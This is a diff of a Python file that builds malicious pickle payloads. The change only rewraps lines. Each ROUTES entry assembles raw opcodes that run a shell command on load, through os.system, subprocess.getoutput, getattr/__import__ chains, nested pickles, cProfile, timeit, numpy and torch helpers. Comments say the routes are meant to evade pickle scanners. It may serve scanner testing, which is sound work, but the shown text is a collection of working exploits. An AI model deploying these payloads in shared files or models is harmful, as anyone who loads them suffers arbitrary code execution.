@@ -46,8 +46,15 @@ ROUTES: dict[str, bytes] = {
     # what is on the stack around REDUCE miss it.
     "memo trick": _global("os", "system") + b"q\x170N0h\x17" + _CMD + b"\x85R",
     # getattr(__import__("os"), "system")(cmd): no module named os.system anywhere.
-    "getattr chain": _global("builtins", "getattr") + b"(" + _global("builtins", "__import__") + _text("os")
-    + b"\x85R" + _text("system") + b"tR" + _CMD + b"\x85R",
+    "getattr chain": _global("builtins", "getattr")
+    + b"("
+    + _global("builtins", "__import__")
+    + _text("os")
+    + b"\x85R"
+    + _text("system")
+    + b"tR"
+    + _CMD
+    + b"\x85R",
     # A pickle inside the pickle (scanners that do not recurse).
     "nested pickle": _global("_pickle", "loads") + b"C" + bytes([0]) + b"\x85R",  # bytes filled in below
     # copyreg extension code 0xF0: runs only where a program registered os.system under it.
@@ -58,11 +65,16 @@ ROUTES: dict[str, bytes] = {
     "_osx_support._read_output": _global("_osx_support", "_read_output") + _CMD + b"\x85R",
     "torch.utils.collect_env.run": _global("torch.utils.collect_env", "run") + _CMD + b"\x85R",
     "numpy runstring": _global("numpy.testing._private.utils", "runstring")
-    + _text(f"import os; os.system({COMMAND!r})") + b"}\x86R",
+    + _text(f"import os; os.system({COMMAND!r})")
+    + b"}\x86R",
     "cProfile.run": _global("cProfile", "run") + _text(f"import os; os.system({COMMAND!r})") + b"\x85R",
     "subprocess.getoutput": _global("subprocess", "getoutput") + _CMD + b"\x85R",
-    "timeit": _global("timeit", "timeit") + b"(" + _text(f"import os; os.system({COMMAND!r})") + _text("pass")
-    + _global("time", "perf_counter") + b"K\x01tR",
+    "timeit": _global("timeit", "timeit")
+    + b"("
+    + _text(f"import os; os.system({COMMAND!r})")
+    + _text("pass")
+    + _global("time", "perf_counter")
+    + b"K\x01tR",
 }
 _INNER = b"\x80\x02" + ROUTES["GLOBAL+REDUCE"] + b"."
 ROUTES["nested pickle"] = _global("_pickle", "loads") + b"C" + bytes([len(_INNER)]) + _INNER + b"\x85R"
